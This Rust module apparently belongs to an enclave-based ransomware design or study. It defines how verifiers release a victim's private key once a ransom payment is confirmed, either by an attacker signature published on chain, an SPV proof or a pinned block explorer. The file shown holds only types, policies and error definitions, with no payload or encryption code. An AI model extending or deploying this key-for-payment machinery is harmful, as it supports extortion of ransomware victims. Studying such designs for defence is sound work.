//! Verifiers that gate release of the victim private key.
//!
//! * `signed`: the attacker signs the victim's payment metadata and publishes
//!   the signature on chain; the enclave checks it against its embedded key.
//! * `spv`: the enclave syncs headers from a checkpoint and checks a Merkle
//!   proof of the payment.
//! * `explorer`: the enclave asks an explorer over a channel authenticated by
//!   pinned anchors, optionally cross-checked with `spv`.
//!
//! Each verifier runs as one boundary call. The victim key is unsealed only
//! on the released branch; every refusal returns a reason and no key.

mod explorer;
mod metadata;
mod signed;
mod spv;

use std::fmt;
use std::str::FromStr;

use crate::chainkit::{ChainError, Checkpoint};
use crate::enclave::EnclaveError;
use crate::keys::VictimSecretKey;

pub use explorer::scheme3_verify_and_release;
pub use metadata::{
    build_payment, signature_parts, ReleaseMetadata, METADATA_LEN, METADATA_TAG, SIG_PART_HEADER, SIG_PART_MAX,
    SIG_PART_TAG,
};
pub use signed::{attacker_scan, attacker_sign, publish_signature, scheme1_verify_and_release, victim_scan};
pub use spv::{scheme2_verify_and_release, spv_sync, spv_verify_payment, validate_headers, SpvError};

/// Why a verifier refused.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum RefusalReason {
    NoPayment,
    InsufficientConfirmations,
    BadSignature,
    NonceMismatch,
    InvalidHeaderChain,
    BadProof,
    UntrustedEndpoint,
    EndpointUnavailable,
}

impl RefusalReason {
    pub fn as_str(self) -> &'static str {
        match self {
            RefusalReason::NoPayment => "no-payment",
            RefusalReason::InsufficientConfirmations => "insufficient-confirmations",
            RefusalReason::BadSignature => "bad-signature",
            RefusalReason::NonceMismatch => "nonce-mismatch",
            RefusalReason::InvalidHeaderChain => "invalid-header-chain",
            RefusalReason::BadProof => "bad-proof",
            RefusalReason::UntrustedEndpoint => "untrusted-endpoint",
            RefusalReason::EndpointUnavailable => "endpoint-unavailable",
        }
    }
}

impl fmt::Display for RefusalReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Refusal {
    pub reason: RefusalReason,
    pub detail: String,
}

impl Refusal {
    pub fn new(reason: RefusalReason, detail: impl Into<String>) -> Self {
        Refusal { reason, detail: detail.into() }
    }
}

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.reason, self.detail)
    }
}

/// Outcome of a verifier. The key is present exactly when released.
#[derive(Clone, Debug)]
pub enum ReleaseDecision {
    Released(VictimSecretKey),
    Refused(Refusal),
}

impl ReleaseDecision {
    pub fn released(&self) -> bool {
        matches!(self, ReleaseDecision::Released(_))
    }

    pub fn reason(&self) -> Option<RefusalReason> {
        match self {
            ReleaseDecision::Released(_) => None,
            ReleaseDecision::Refused(r) => Some(r.reason),
        }
    }

    pub fn vk_prv(&self) -> Option<&VictimSecretKey> {
        match self {
            ReleaseDecision::Released(k) => Some(k),
            ReleaseDecision::Refused(_) => None,
        }
    }

    pub(crate) fn from_gate(r: Result<VictimSecretKey, Refusal>) -> Self {
        match r {
            Ok(k) => ReleaseDecision::Released(k),
            Err(r) => ReleaseDecision::Refused(r),
        }
    }
}

impl fmt::Display for ReleaseDecision {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ReleaseDecision::Released(_) => f.write_str("released"),
            ReleaseDecision::Refused(r) => write!(f, "refused ({r})"),
        }
    }
}

/// Verifier parameters. In a deployed build these would be compiled into
/// the enclave image.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ReleasePolicy {
    pub min_confirmations: u64,
    /// Validated blocks required above the payment block.
    pub n_extra_blocks: u64,
    pub checkpoint: Checkpoint,
    /// Cross-check explorer answers with the SPV client.
    pub combined: bool,
}

impl ReleasePolicy {
    pub const DEFAULT_CONFIRMATIONS: u64 = 6;

    pub fn new(checkpoint: Checkpoint) -> Self {
        ReleasePolicy { min_confirmations: Self::DEFAULT_CONFIRMATIONS, n_extra_blocks: 0, checkpoint, combined: false }
    }

    pub fn with(checkpoint: Checkpoint, min_confirmations: u64, n_extra_blocks: u64) -> Self {
        ReleasePolicy { min_confirmations, n_extra_blocks, checkpoint, combined: false }
    }

    pub fn validate(&self) -> Result<(), ReleaseError> {
        if self.min_confirmations == 0 {
            return Err(ReleaseError::InvalidPolicy("min_confirmations must be at least 1"));
        }
        Ok(())
    }
}

/// Release scheme selector.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Scheme {
    Signed,
    Spv,
    Explorer,
}

impl Scheme {
    pub const ALL: [Scheme; 3] = [Scheme::Signed, Scheme::Spv, Scheme::Explorer];

    pub fn as_str(self) -> &'static str {
        match self {
            Scheme::Signed => "signed",
            Scheme::Spv => "spv",
            Scheme::Explorer => "explorer",
        }
    }
}

impl fmt::Display for Scheme {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for Scheme {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Scheme::ALL
            .into_iter()
            .find(|x| x.as_str() == s)
            .ok_or_else(|| format!("unknown scheme {s:?} (expected signed, spv or explorer)"))
    }
}

/// Failures that are not release decisions.
#[derive(Debug, thiserror::Error)]
pub enum ReleaseError {
    #[error(transparent)]
    Enclave(#[from] EnclaveError),
    #[error(transparent)]
    Chain(#[from] ChainError),
    #[error("invalid policy: {0}")]
    InvalidPolicy(&'static str),
    #[error("signature of {0} bytes does not fit the OP_RETURN part budget")]
    SignatureTooLarge(usize),
    #[error("combined mode needs a peer for the SPV cross-check")]
    CombinedNeedsPeer,
}
